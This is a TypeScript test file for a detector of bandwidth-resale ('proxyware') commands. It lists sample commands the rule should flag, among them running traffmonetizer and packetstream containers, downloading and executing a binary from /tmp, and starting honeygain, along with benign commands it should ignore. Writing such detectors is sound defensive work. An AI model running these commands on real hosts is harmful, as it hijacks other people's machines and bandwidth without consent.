import { blank, indicatorTable, script, UNSEEN } from '../testing.ts';
import { commandBandwidthResale } from './bandwidth-resale.ts';

indicatorTable(commandBandwidthResale, {
  fires: {
    'in a container beside the pod': script(
      'docker run -d --restart always --name a traffmonetizer/cli_v2 start accept --token x',
    ),
    'in a pod': script('kubectl run a --image=alpine -n tmp; kubectl create deployment b --image example/packetstream'),
    'as a program': script(
      'curl -so /tmp/a https://files.example.net/a && chmod +x /tmp/a; honeygain -tou-accept -email a@b',
    ),
  },
  staysSilent: {
    'another container': script('docker run --rm example/report:2'),
    'an image that is removed': script('docker rmi honeygain/honeygain'),
    'a test of the bandwidth': script('speedtest --simple'),
    'no command': blank,
  },
  cannotTell: UNSEEN,
});
